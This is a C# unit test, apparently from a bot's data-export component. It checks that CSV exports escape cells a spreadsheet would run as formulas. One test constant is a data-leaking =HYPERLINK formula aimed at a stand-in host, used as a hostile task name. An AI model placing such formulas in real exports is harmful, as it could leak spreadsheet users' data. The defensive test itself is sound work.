using System.Text;
using Bot.Core.Domain;
using Bot.Core.Engine;
using Bot.Core.Ports;
using Bot.Data.Export;
using Bot.Testing.Postgres;
using Microsoft.Extensions.Options;

namespace Bot.Data.Tests.Export;

/// <summary>
/// A spreadsheet runs a cell that starts with = + - @ as a formula (CSV injection). Names that reach
/// the CSV are configuration, not model output, but a task or profile name is still typed by a
/// person: such cells must arrive as text.
/// </summary>
public sealed class CsvFormulaGuardTests(PostgresDatabase db) : IClassFixture<PostgresDatabase>
{
    private const string Task = "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"open\")";
    private const string Profile = "@SUM(1+1)";

    [Fact]
    public async Task Cells_a_spreadsheet_would_run_as_formulas_are_exported_as_text_and_still_parse()
    {
        var runs = new TestRuns(db);
        var started = await runs.Processor.StartRunAsync(new StartRunRequest(Task, "Do it.", Profile, TestRuns.Settings(quorum: 2), TestRuns.Researcher));
        Assert.True(started.IsSuccess, started.Error?.ToString());
        var run = started.Value.State.RunId;
        Assert.True((await runs.Processor.HandleAsync(run, new CandidatesGenerated(TestRuns.Model, 1, [TestRuns.Bash("ls"), TestRuns.Bash("-rf")]))).IsSuccess);
        Assert.True((await runs.Processor.HandleAsync(run, new CastVote(new ActorId("discord:10"), 1, 1))).IsSuccess);

        var exporter = new DatasetExport(db.Database, new ExportSalt(Options.Create(new ExportOptions { PseudonymSalt = "csv-guard-salt-0123456789" })), runs.Time);
        var sink = new MemorySink();
        var result = await exporter.ExportAsync(new ExportRequest(ExportFormat.Csv, ExportFilter.All, null), sink);
        Assert.True(result.IsSuccess, result.Error?.ToString());

        var rows = Parse(sink.Single());
        var header = rows[0];
        var vote = Assert.Single(rows.Skip(1));
        Assert.Equal(header.Count, vote.Count);
        Assert.Equal("'" + Task, vote[header.IndexOf("task")]);
        Assert.Equal("'" + Profile, vote[header.IndexOf("model")]);
        Assert.All(vote, cell => Assert.DoesNotMatch("^[=+@\\-]", cell));
    }

    /// <summary>RFC 4180, as a spreadsheet reads it: quoted fields may hold commas, quotes (doubled) and line breaks.</summary>
    private static List<List<string>> Parse(string csv)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var ch = csv[i];
            if (quoted)
            {
                if (ch == '"' && i + 1 < csv.Length && csv[i + 1] == '"') { cell.Append('"'); i++; }
                else if (ch == '"') quoted = false;
                else cell.Append(ch);
            }
            else if (ch == '"') quoted = true;
            else if (ch == ',') { row.Add(cell.ToString()); cell.Clear(); }
            else if (ch == '\r' && i + 1 < csv.Length && csv[i + 1] == '\n')
            {
                row.Add(cell.ToString()); cell.Clear();
                rows.Add(row); row = [];
                i++;
            }
            else cell.Append(ch);
        }
        if (cell.Length > 0 || row.Count > 0) { row.Add(cell.ToString()); rows.Add(row); }
        return rows;
    }
}
